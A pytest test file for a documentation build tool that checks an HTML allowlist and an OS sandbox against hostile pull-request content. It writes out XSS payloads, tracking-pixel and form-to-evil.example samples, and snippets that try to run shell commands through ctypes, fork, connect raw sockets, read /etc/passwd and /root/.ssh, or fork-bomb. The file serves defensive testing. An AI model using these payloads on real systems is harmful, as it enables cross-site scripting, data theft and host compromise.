"""Hostile pages and snippets, as a stranger's pull request could send them.

Pages: the rendered HTML must pass the allowlist (dlqa.htmlcheck), whatever the Markdown
source looked like. Snippets: the OS sandbox (dlqa.isolation) must keep a snippet from
writing, connecting or running anything on the machine that builds it, whatever Python it
calls. Every attack here is real code or markup that attempts it.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import textwrap
import threading
from pathlib import Path

import pytest

from dlqa import htmlcheck, isolation
from dlqa.repo import Repo
from dlqa.snippets import run_snippet
from tests.conftest import DOCS, ROOT

PAGE = f"{DOCS}/fundamentals/tensor.md"
ANCHOR = "- A tensor is not always three-dimensional."

# attack name -> (Markdown or HTML placed in a page, what the error must say)
PAGE_ATTACKS = {
    "svg-onload-no-space": ("<svg/onload=alert(1)>", "<svg> element"),
    "entity-encoded-scheme": ('<a href="jav&#x61;script:alert(1)">x</a>', "javascript: link"),
    "tab-in-scheme": ('<a href="java&#9;script:alert(1)">x</a>', "javascript: link"),
    "markdown-javascript-link": ("[click](javascript:alert(1))", "javascript: link"),
    "vbscript-link": ('<a href="vbscript:msgbox(1)">x</a>', "vbscript: link"),
    "data-url-image": ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "data: resource"),
    "external-image": ("![x](https://tracker.example/pixel.png)", "https: resource"),
    "protocol-relative-image": ('<img src="//tracker.example/p.png" alt="">',
                                "protocol-relative URL"),
    "srcset": ('<img src="a.png" srcset="https://tracker.example/p.png 2x" alt="">',
               "attribute srcset="),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">',
                     "<meta> element"),
    "form-posting-elsewhere": ('<form action="https://evil.example/steal"><input></form>',
                               "<form> element"),
    "external-stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">',
                            "<link> element"),
    "iframe-srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
                      "<iframe> element"),
    "mathml-action": ('<math><maction actiontype="statusline">x</maction></math>',
                      "<math> element"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "<object> element"),
    "embed": ('<embed src="https://evil.example/x.swf">', "<embed> element"),
    "base": ('<base href="https://evil.example/">', "<base> element"),
    "style-attribute": ('<p style="background:url(https://evil.example/x)">x</p>',
                        "attribute style="),
    "attr-list-handler": ('Click me\n{: onclick="alert(1)" }', "event-handler attribute onclick="),
    "stray-close-then-script": ("</div></div><script>alert(1)</script>", "<script> element"),
    "noscript-confusion": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
                           "<noscript> element"),
    "script": ("<script>alert(1)</script>", "<script> element"),
}


@pytest.mark.parametrize("name", sorted(PAGE_ATTACKS))
def test_html_allowlist_rejects(name):
    import markdown

    attack, message = PAGE_ATTACKS[name]
    html = markdown.markdown(attack, extensions=["attr_list", "md_in_html"])
    found = htmlcheck.problems(html)
    assert any(message in p.what for p in found), (html, found)


def test_html_allowlist_accepts_what_markdown_makes():
    import markdown

    text = textwrap.dedent("""\
        ## Heading {#anchor}

        Text with *emphasis*, `code`, a [link](other.md#part), a [site](https://example.org),
        [mail](mailto:a@example.org) and ![a figure](../assets/figure.svg).

        | a | b |
        |:--|--:|
        | 1 | 2 |

        Term
        :   Definition[^1]

        [^1]: A footnote.
        """)
    html = markdown.markdown(text, extensions=["tables", "def_list", "footnotes", "attr_list",
                                               "toc"])
    assert htmlcheck.problems(html) == []


def test_the_allowlist_remembers_passes_only(tmp_path, monkeypatch):
    """A page whose exact HTML passed in the last build is not parsed again
    (htmlcheck.Allowlist); a page that failed, the same HTML on a page held to other rules,
    and every page after the checking code changed, are checked again."""
    good = '<p>A <a href="../other/">link</a>.</p>'
    bad = '<p>A picture.</p><img src="https://tracker.example/pixel.png">'
    first = htmlcheck.Allowlist(tmp_path)
    assert first.page_errors(good, "t/good.md", lambda: good, "docs/t/good.md") == []
    assert first.page_errors(bad, "t/bad.md", lambda: bad, "docs/t/bad.md")
    first.save()

    parsed = []
    check = htmlcheck.problems
    monkeypatch.setattr(htmlcheck, "problems",
                        lambda html, forms=False: parsed.append(html) or check(html, forms))
    again = htmlcheck.Allowlist(tmp_path)
    assert again.page_errors(good, "t/good.md", lambda: good, "docs/t/good.md") == []
    assert parsed == []
    [error] = again.page_errors(bad, "t/bad.md", lambda: bad, "docs/t/bad.md")
    assert "https: resource" in error.message and parsed == [bad]
    again.page_errors(good, "study/good.md", lambda: good, "docs/study/good.md")
    assert parsed == [bad, good]

    changed = tmp_path / "htmlcheck.py"
    changed.write_bytes(Path(htmlcheck.__file__).read_bytes() + b"\n# a new rule\n")
    monkeypatch.setattr(htmlcheck, "__file__", str(changed))
    htmlcheck.Allowlist(tmp_path).page_errors(good, "t/good.md", lambda: good, "docs/t/good.md")
    assert parsed == [bad, good, good]


ATTACKS_IN_A_BUILD = ("svg-onload-no-space", "meta-refresh", "form-posting-elsewhere",
                      "external-image", "attr-list-handler", "entity-encoded-scheme")


@pytest.mark.parametrize("name", ATTACKS_IN_A_BUILD)
def test_a_hostile_page_fails_the_build_and_is_not_published(scratch, name):
    attack, message = PAGE_ATTACKS[name]
    scratch.edit(PAGE, ANCHOR, f"{ANCHOR}\n\n{attack}\n")
    build = scratch.build()
    assert build.returncode != 0
    line = 40 + attack.count("\n")  # the attack's last line holds what is refused
    assert f"{PAGE}:{line}: " in build.stderr and message in build.stderr, build.stderr[-1500:]
    assert not (scratch.root / "site" / "fundamentals" / "tensor.html").exists()


# --- snippets ---------------------------------------------------------------------------

@pytest.fixture
def sandboxed(tmp_path, monkeypatch):
    """Runs a snippet in the real sandbox; yields (run(code) -> result, a host folder)."""
    if isolation.opted_out():
        pytest.fail(f"{isolation.OPT_OUT} is set: the sandbox tests need the sandbox")
    repo = Repo(tmp_path / "repo")
    (repo.root / "snippets").mkdir(parents=True)
    host = tmp_path / "host"
    host.mkdir()

    def run(code: str):
        path = repo.root / "snippets" / "attack.py"
        path.write_text(textwrap.dedent(code), encoding="utf-8")
        return run_snippet(path, repo, timeout=60)

    return run, host


def test_ctypes_system_cannot_touch_the_host(sandboxed):
    run, host = sandboxed
    target = host / "pwned"
    result = run(f"""
        import ctypes, os
        ctypes.CDLL(None).system(b"touch ran-inside {target} {ROOT}/pwned-by-snippet")
        print("the command ran:", os.path.exists("ran-inside"))
        """)
    # There is no shell to run in the sandbox, and in any case the host is untouched.
    assert "the command ran: False" in result.output, result
    assert not target.exists() and not (ROOT / "pwned-by-snippet").exists()


def test_posixsubprocess_fork_exec_cannot_touch_the_host(sandboxed):
    run, host = sandboxed
    target = host / "pwned"
    result = run(f"""
        import os, _posixsubprocess
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec(
            [b"/bin/sh", b"-c", b"touch ran-inside {target}"], [b"/bin/sh"], True, (w,), None,
            None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None,
            False)  # the 23 arguments of CPython 3.11's subprocess call
        os.waitpid(pid, 0)
        print("the command ran:", os.path.exists("ran-inside"))
        """)
    assert "the command ran: False" in result.output, result
    assert not target.exists()


def test_a_forked_child_cannot_touch_the_host(sandboxed):
    run, host = sandboxed
    target = host / "pwned"
    result = run(f"""
        import ctypes, os
        libc = ctypes.CDLL(None)
        pid = libc.fork()
        if pid == 0:
            for path in (b"ran-inside", b"{target}"):
                libc.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
            libc._exit(0)
        os.waitpid(pid, 0)
        print("the child ran:", os.path.exists("ran-inside"))
        """)
    assert "the child ran: True" in result.output, result
    assert not target.exists()


def test_raw_sockets_reach_no_server(sandboxed):
    run, _ = sandboxed
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(5)
    port = server.getsockname()[1]
    accepted = []

    def accept():
        try:
            accepted.append(server.accept())
        except OSError:
            pass

    thread = threading.Thread(target=accept)
    thread.start()
    result = run(f"""
        import ctypes, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(2, 1, 0)
        addr = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
        addr = struct.pack("H", 2) + addr[2:]
        rc = libc.connect(fd, addr, len(addr))
        print("connect returned", rc, "errno", ctypes.get_errno())
        """)
    thread.join()
    server.close()
    assert accepted == []
    assert "connect returned -1" in result.output, result


def test_reading_the_builders_files_finds_nothing(sandboxed):
    run, host = sandboxed
    secret = host / "secret.txt"
    secret.write_text("do-not-publish")
    result = run(f"""
        import os
        for path in ("{secret}", "{ROOT}/mkdocs.yml", "/root/.ssh", "/etc/passwd"):
            print(path, os.path.exists(path))
        """)
    assert result.ok and "do-not-publish" not in result.output
    assert "True" not in result.output, result.output


def test_allocating_20_gb_fails_inside_the_sandbox(sandboxed):
    run, _ = sandboxed
    result = run("""
        import numpy as np
        a = np.ones(20 * 1024**3 // 8)
        print("allocated", a.nbytes)
        """)
    assert not result.ok and "MemoryError" in result.error


def test_processes_a_snippet_starts_die_with_it(sandboxed):
    """A snippet's children live in its own process namespace: when it ends, they end, so a
    fork bomb lasts at most the time limit (and, when the build does not run as root, the
    process limit caps it too)."""
    run, host = sandboxed
    result = run("""
        import ctypes, os, time
        libc = ctypes.CDLL(None)
        for _ in range(20):
            if libc.fork() == 0:
                libc.sleep(60)
                libc._exit(0)
        time.sleep(0.5)
        print("processes", sum(name.isdigit() for name in os.listdir("/proc")))
        """)
    assert int(result.output.split()[-1]) > 20, result  # the children were running
    import subprocess

    snippet = str(host.parent / "repo" / "snippets" / "attack.py")  # this test's own
    left = subprocess.run(["pgrep", "-f", snippet], capture_output=True, text=True, check=False)
    assert left.stdout.strip() == "", "processes outlived the snippet"


def test_no_program_but_python_can_be_run(sandboxed):
    run, _ = sandboxed
    result = run("""
        import os
        for program in ("/bin/sh", "/usr/bin/env", "/usr/bin/curl", "/usr/bin/bash"):
            print(program, os.path.exists(program))
        """)
    assert result.ok and "True" not in result.output, result.output


def test_without_bubblewrap_snippets_do_not_run(monkeypatch, scratch):
    """Fail closed: no sandbox, no snippets, and the message says what to install."""
    monkeypatch.setenv("PATH", "/nonexistent")
    monkeypatch.delenv(isolation.OPT_OUT, raising=False)
    isolation.check_available.cache_clear()
    try:
        from dlqa.catalogue import load_catalogue
        from dlqa.snippets import run_page_snippets

        results, errors = run_page_snippets(load_catalogue(Repo(scratch.root)))
    finally:
        isolation.check_available.cache_clear()
    assert results == [] and len(errors) == 1
    assert "install bubblewrap" in str(errors[0]) and isolation.OPT_OUT in str(errors[0])


def test_a_committed_cache_fails_the_build(scratch):
    """Rendered formulas are inserted after a page's HTML is checked, so a rendered-math cache
    committed in a pull request could publish a script: the build refuses committed caches."""
    assert scratch.build().returncode == 0
    cache = scratch.root / ".cache" / "katex.json"
    poisoned = {key: "<script>alert(1)</script>" for key in json.loads(cache.read_text())}
    cache.write_text(json.dumps(poisoned), encoding="utf-8")
    shutil.rmtree(scratch.root / "site")
    git = ["git", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q"], cwd=scratch.root, check=True)
    subprocess.run([*git, "add", "-f", ".cache/katex.json"], cwd=scratch.root, check=True)
    build = scratch.build()
    assert build.returncode != 0
    assert (".cache/katex.json: is generated by the build but committed" in build.stderr
            and "git rm --cached .cache/katex.json" in build.stderr), build.stderr[-1500:]
    assert not (scratch.root / "site").exists()
